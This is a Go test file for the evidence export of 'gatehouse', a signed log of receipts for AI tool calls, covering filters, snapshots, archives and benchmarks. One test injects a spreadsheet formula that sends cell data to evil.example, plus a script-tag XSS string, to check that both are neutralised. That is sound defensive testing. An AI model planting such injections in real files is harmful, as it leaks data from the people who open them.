package receipts

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-dev/gatehouse/internal/store"
	"github.com/gatehouse-dev/gatehouse/receipts/entry"
	"github.com/gatehouse-dev/gatehouse/receipts/verify"
)

// exportLog is a small log with something for every filter:
//
//	0 key                        5 outcome FAILED for 4
//	1 receipt files ALLOW        6 policy
//	2 outcome SUCCEEDED for 1    7 erasure of 1's args
//	3 receipt mail DENY          8 receipt mail ALLOW
//	4 receipt files ALLOW        9 outcome UNKNOWN for 8
func exportLog(t *testing.T) (*Log, []*entry.Entry) {
	t.Helper()
	ctx := context.Background()
	l, _ := MustOpen(t, newKey(t))
	var es []*entry.Entry
	add := func(e *entry.Entry, err error) *entry.Entry {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		es = append(es, e)
		return e
	}
	for st, err := range l.Entries(ctx, 0, 1) {
		if err != nil {
			t.Fatal(err)
		}
		e, _ := entry.Parse(st.Data)
		es = append(es, e)
	}
	call := func(server, decision string) entry.Receipt {
		r := sampleReceipt()
		r.Server, r.Capability, r.Decision = server, entry.Capability(server, r.Tool), decision
		return r
	}
	r1 := add(l.AppendReceipt(ctx, call("files", entry.Allow), []byte(`{"path":"a"}`)))
	add(l.AppendOutcome(ctx, entry.Outcome{Receipt: r1.ID, Status: entry.Succeeded}, []byte(`ok`)))
	add(l.AppendReceipt(ctx, call("mail", entry.Deny), []byte(`{"to":"x"}`)))
	r4 := add(l.AppendReceipt(ctx, call("files", entry.Allow), []byte(`{"path":"b"}`)))
	add(l.AppendOutcome(ctx, entry.Outcome{Receipt: r4.ID, Status: entry.Failed, ErrorCode: -32603}, nil))
	add(l.AppendEvent(ctx, entry.KindPolicy, entry.PolicyEvent{Version: 2, Hash: entry.Commit(nil, []byte("policy v2"))}))
	add(l.Erase(ctx, []string{r1.ID}, "request"))
	r8 := add(l.AppendReceipt(ctx, call("mail", entry.Allow), []byte(`{"to":"y"}`)))
	add(l.AppendOutcome(ctx, entry.Outcome{Receipt: r8.ID, Status: entry.Unknown}, nil))
	return l, es
}

// exported reads a bundle back: the manifest, and the "included_as" column
// of the CSV by index.
func exported(t *testing.T, dir string) (*verify.Manifest, map[string]string) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, verify.FileManifest))
	if err != nil {
		t.Fatal(err)
	}
	m, err := verify.ParseManifest(data)
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(dir, verify.FileCSV))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	why := map[string]string{}
	for _, row := range rows[1:] {
		why[row[0]] = row[5]
	}
	return m, why
}

func verifyDir(t *testing.T, path string) *verify.Report {
	t.Helper()
	fsys, err := verify.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	r, err := verify.Bundle(context.Background(), fsys, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !r.OK() {
		var b strings.Builder
		r.WriteText(&b)
		t.Fatalf("the exported bundle does not verify:\n%s", b.String())
	}
	return r
}

func TestExportChooses(t *testing.T) {
	ctx := context.Background()
	l, es := exportLog(t)
	at := func(i int) time.Time {
		ts, _ := time.Parse(time.RFC3339Nano, es[i].Time)
		return ts
	}
	tests := []struct {
		name    string
		filter  ExportFilter
		indexes string
		extra   map[string]string // entries included to verify the others, and why
	}{
		{"everything", ExportFilter{}, "0-9", nil},
		{"one server", ExportFilter{Servers: []string{"files"}}, "0-2,4-5,7",
			map[string]string{"0": "key chain", "7": "erasure of an exported payload"}},
		{"denied calls", ExportFilter{Decisions: []string{"deny"}}, "0,3", map[string]string{"0": "key chain"}},
		{"failed calls", ExportFilter{Statuses: []string{entry.Failed}}, "0,4-5", nil},
		{"outcomes", ExportFilter{Kinds: []entry.Kind{entry.KindOutcome}}, "0-2,4-5,7-9",
			map[string]string{"1": "receipt of an exported outcome", "4": "receipt of an exported outcome", "8": "receipt of an exported outcome", "7": "erasure of an exported payload"}},
		{"policies", ExportFilter{Kinds: []entry.Kind{entry.KindPolicy}}, "0,6", nil},
		{"a time range", ExportFilter{From: at(4), To: at(6)}, "0,4-5", nil},
		{"server and decision", ExportFilter{Servers: []string{"mail"}, Decisions: []string{entry.Allow}}, "0,8-9", nil},
		{"nothing matches", ExportFilter{Servers: []string{"nowhere"}}, "0", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "bundle")
			x, err := l.Export(ctx, out, &ExportOptions{Filter: tt.filter})
			if err != nil {
				t.Fatal(err)
			}
			m, why := exported(t, out)
			if m.Indexes != tt.indexes {
				t.Errorf("Export(%+v) holds entries %q, want %q", tt.filter, m.Indexes, tt.indexes)
			}
			if m.Complete != (tt.indexes == "0-9") || x.Checkpoint.Size != 10 || m.Checkpoint.Size != 10 {
				t.Errorf("complete %v, checkpoint size %d; want the whole log's checkpoint", m.Complete, m.Checkpoint.Size)
			}
			for idx, want := range tt.extra {
				if why[idx] != want {
					t.Errorf("entry %s included as %q, want %q", idx, why[idx], want)
				}
			}
			r := verifyDir(t, out)
			if r.FirstKey != x.FirstKey || x.FirstKey != l.KeyID() {
				t.Errorf("first key %s (report %s), want %s", x.FirstKey, r.FirstKey, l.KeyID())
			}
		})
	}
}

// TestExportIsASnapshot: proxies append while an export runs; the bundle is
// one state of the log, and verifies.
func TestExportIsASnapshot(t *testing.T) {
	ctx := context.Background()
	l, st := MustOpen(t, newKey(t))
	// Another process's log on the same database.
	other, err := Open(ctx, st, l.key)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error)
	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				done <- nil
				return
			default:
			}
			r, err := other.AppendReceipt(ctx, sampleReceipt(), []byte(`{}`))
			if err == nil {
				_, err = other.AppendOutcome(ctx, entry.Outcome{Receipt: r.ID, Status: entry.Succeeded}, []byte(`ok`))
			}
			if err != nil {
				done <- err
				return
			}
		}
	}()
	dir := t.TempDir()
	for i := range 5 {
		out := filepath.Join(dir, fmt.Sprint(i))
		if _, err := l.Export(ctx, out, &ExportOptions{Filter: ExportFilter{Kinds: []entry.Kind{entry.KindOutcome}}}); err != nil {
			t.Fatal(err)
		}
		verifyDir(t, out)
	}
	close(stop)
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

func TestExportRefuses(t *testing.T) {
	ctx := context.Background()
	l, _ := exportLog(t)
	dir := t.TempDir()
	existing := filepath.Join(dir, "existing")
	os.Mkdir(existing, 0o700)
	if _, err := l.Export(ctx, existing, nil); !errors.Is(err, fs.ErrExist) {
		t.Errorf("Export to an existing folder = %v, want fs.ErrExist", err)
	}

	other, _ := MustOpen(t, newKey(t))
	theirs, _, _ := other.Checkpoint(ctx)
	ours, cp, _ := l.Checkpoint(ctx)
	later, _ := entry.SignCheckpoint(entry.Checkpoint{Log: l.ID(), Size: cp.Size + 5, Hash: cp.Hash}, l.key)
	rewritten, _ := entry.SignCheckpoint(entry.Checkpoint{Log: l.ID(), Size: cp.Size - 1, Hash: cp.Hash}, l.key)
	for name, since := range map[string][]byte{
		"another log's checkpoint":     theirs,
		"a checkpoint past the log":    later,
		"a checkpoint of another tree": rewritten,
		"not a checkpoint":             []byte("hello\n"),
	} {
		out := filepath.Join(dir, "b")
		if _, err := l.Export(ctx, out, &ExportOptions{Since: since}); !errors.Is(err, ErrInconsistent) {
			t.Errorf("Export since %s = %v, want ErrInconsistent", name, err)
		}
		if _, err := os.Stat(out); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("Export since %s left %s behind", name, out)
		}
	}
	// The checkpoint of the log as it is: consistent, with an empty proof.
	out := filepath.Join(dir, "same")
	if _, err := l.Export(ctx, out, &ExportOptions{Since: ours}); err != nil {
		t.Fatalf("Export since the current checkpoint = %v", err)
	}
	verifyDir(t, out)

	// Nothing but bundles was left in the folder: no temporary files.
	des, _ := os.ReadDir(dir)
	for _, de := range des {
		if strings.HasPrefix(de.Name(), ".") {
			t.Errorf("a temporary %s was left behind", de.Name())
		}
	}
}

func TestExportArchive(t *testing.T) {
	ctx := context.Background()
	l, _ := exportLog(t)
	dir := t.TempDir()
	folder, archive := filepath.Join(dir, "b"), filepath.Join(dir, "b.tar.gz")
	if _, err := l.Export(ctx, folder, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Export(ctx, archive, nil); err != nil {
		t.Fatal(err)
	}
	verifyDir(t, archive)
	fsys, _ := verify.Open(archive)
	// Same files, and the same entries (the checkpoint and manifest differ
	// only in their time and signature).
	des, _ := os.ReadDir(folder)
	for _, de := range des {
		if _, err := fs.Stat(fsys, de.Name()); err != nil {
			t.Errorf("the archive lacks %s", de.Name())
		}
	}
	a, _ := fs.ReadFile(fsys, verify.FileEntries)
	b, _ := os.ReadFile(filepath.Join(folder, verify.FileEntries))
	if !bytes.Equal(a, b) {
		t.Error("the archive's entries differ from the folder's")
	}
}

func TestExportWithoutPayloads(t *testing.T) {
	l, _ := exportLog(t)
	out := filepath.Join(t.TempDir(), "b")
	x, err := l.Export(context.Background(), out, &ExportOptions{NoPayloads: true})
	if err != nil {
		t.Fatal(err)
	}
	if x.Manifest.Payloads {
		t.Error("manifest says payloads are included")
	}
	if _, err := os.Stat(filepath.Join(out, verify.FilePayloads)); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("payloads.jsonl written with NoPayloads: %v", err)
	}
	for _, name := range []string{verify.FileEntries, verify.FileCSV, verify.FileReport} {
		data, _ := os.ReadFile(filepath.Join(out, name))
		if bytes.Contains(data, []byte(`"path"`)) || bytes.Contains(data, []byte(`{"to"`)) {
			t.Errorf("%s holds a payload", name)
		}
	}
	verifyDir(t, out)
}

// TestExportViews: what servers and clients name is text, in the CSV and in
// the report: no formula, no markup.
func TestExportViews(t *testing.T) {
	ctx := context.Background()
	l, _ := MustOpen(t, newKey(t))
	r := sampleReceipt()
	r.Tool = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	r.Client.Name = `<script>alert(1)</script>`
	if _, err := l.AppendReceipt(ctx, r, nil); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "b")
	if _, err := l.Export(ctx, out, nil); err != nil {
		t.Fatal(err)
	}
	f, _ := os.Open(filepath.Join(out, verify.FileCSV))
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[2][7]; got != "'"+r.Tool {
		t.Errorf("CSV tool cell = %q, want it behind an apostrophe", got)
	}
	html, _ := os.ReadFile(filepath.Join(out, verify.FileReport))
	if bytes.Contains(html, []byte("<script>")) || !bytes.Contains(html, []byte("&lt;script&gt;alert(1)&lt;/script&gt;")) {
		t.Error("the report does not escape a client's name")
	}
	for _, want := range []string{"Gatehouse evidence export", l.ID(), l.KeyID(), "gatehouse verify --pin-key " + l.KeyID()} {
		if !bytes.Contains(html, []byte(want)) {
			t.Errorf("the report does not show %q", want)
		}
	}
}

func ExampleLog_Export() {
	ctx := context.Background()
	home, _ := os.MkdirTemp("", "gatehouse-home-")
	defer os.RemoveAll(home)
	st, _ := store.Open(ctx, home, nil)
	defer st.Close()
	_, key, _ := ed25519.GenerateKey(nil)
	l, _ := Open(ctx, st, key)

	r, _ := l.AppendReceipt(ctx, entry.Receipt{Capability: "mcp.files.read_file", Server: "files", Tool: "read_file",
		Decision: entry.Allow, Rule: "default", Client: entry.Client{Name: "claude-code"}}, []byte(`{"path":"notes.txt"}`))
	l.AppendOutcome(ctx, entry.Outcome{Receipt: r.ID, Status: entry.Succeeded, DurationMS: 2}, []byte(`{"content":[]}`))

	out := filepath.Join(home, "evidence.tar.gz")
	x, err := l.Export(ctx, out, &ExportOptions{Filter: ExportFilter{Servers: []string{"files"}}})
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(x.Manifest.Counts.Entries, "entries of", x.Checkpoint.Size, "complete:", x.Manifest.Complete)

	fsys, _ := verify.Open(out)
	report, _ := verify.Bundle(ctx, fsys, &verify.Options{PinKeyID: x.FirstKey})
	fmt.Println("verifies:", report.OK())
	// Output:
	// 3 entries of 3 complete: true
	// verifies: true
}

// benchLog returns a log of n entries (calls: a receipt and an outcome,
// one call in ten to server "mail", with arguments and results). With
// $GATEHOUSE_BENCH_DIR set, the log is built there once and reused by later
// runs (building a million entries takes a while: each append is a durable
// transaction); otherwise in a temporary folder.
func benchLog(b *testing.B, n int) *Log {
	ctx := context.Background()
	dir := os.Getenv("GATEHOUSE_BENCH_DIR")
	if dir == "" {
		dir = b.TempDir()
	}
	home := filepath.Join(dir, fmt.Sprintf("log-%d", n))
	keyFile, doneFile := home+".key", home+".done"
	if _, err := os.Stat(doneFile); err != nil {
		os.RemoveAll(home)
		if err := os.MkdirAll(dir, 0o700); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(keyFile, []byte(hex.EncodeToString(newKey(b).Seed())), 0o600); err != nil {
			b.Fatal(err)
		}
	}
	raw, err := os.ReadFile(keyFile)
	if err != nil {
		b.Fatal(err)
	}
	seed, err := hex.DecodeString(string(raw))
	if err != nil {
		b.Fatal(err)
	}
	st, err := store.Open(ctx, home, nil)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { st.Close() })
	l, err := Open(ctx, st, ed25519.NewKeyFromSeed(seed))
	if err != nil {
		b.Fatal(err)
	}
	size, _ := l.Size(ctx)
	for i := size; i < int64(n); i += 2 {
		server := "files"
		if (i/2)%10 == 0 {
			server = "mail"
		}
		rc := sampleReceipt()
		rc.Server, rc.Capability = server, entry.Capability(server, rc.Tool)
		r, err := l.AppendReceipt(ctx, rc, fmt.Appendf(nil, `{"path":"/home/me/notes-%d.txt"}`, i))
		if err != nil {
			b.Fatal(err)
		}
		if _, err := l.AppendOutcome(ctx, entry.Outcome{Receipt: r.ID, Status: entry.Succeeded, DurationMS: 1.5},
			[]byte(`{"content":[{"type":"text","text":"hello"}]}`)); err != nil {
			b.Fatal(err)
		}
	}
	if err := os.WriteFile(doneFile, nil, 0o600); err != nil {
		b.Fatal(err)
	}
	return l
}

// benchSize is the benchmarks' log size: $GATEHOUSE_BENCH_ENTRIES, else
// 10,000.
func benchSize() int {
	var n int
	if _, err := fmt.Sscan(os.Getenv("GATEHOUSE_BENCH_ENTRIES"), &n); err == nil && n > 0 {
		return n
	}
	return 10_000
}

// BenchmarkExport measures an export of the whole log, of a tenth of it
// (one server: a proof per entry), and of the whole log as an archive.
//
//	go test -run '^$' -bench Export -benchtime 5x ./receipts/
//	GATEHOUSE_BENCH_ENTRIES=1000000 GATEHOUSE_BENCH_DIR=/var/tmp/gatehouse-bench \
//	  go test -run '^$' -bench Export -benchtime 1x -timeout 4h ./receipts/
func BenchmarkExport(b *testing.B) {
	l := benchLog(b, benchSize())
	ctx := context.Background()
	for _, bb := range []struct {
		name string
		opts *ExportOptions
		ext  string
	}{
		{"complete", nil, ""},
		{"partial", &ExportOptions{Filter: ExportFilter{Servers: []string{"mail"}}}, ""},
		{"complete-archive", nil, ".tar.gz"},
	} {
		b.Run(bb.name, func(b *testing.B) {
			dir := b.TempDir()
			var x *Exported
			i := 0
			for b.Loop() {
				var err error
				x, err = l.Export(ctx, filepath.Join(dir, fmt.Sprint(i)+bb.ext), bb.opts)
				if err != nil {
					b.Fatal(err)
				}
				os.RemoveAll(x.Path)
				i++
			}
			b.ReportMetric(float64(x.Manifest.Counts.Entries)*float64(b.N)/b.Elapsed().Seconds(), "entries/s")
			b.ReportMetric(float64(x.Manifest.Counts.Entries), "entries")
		})
	}
}
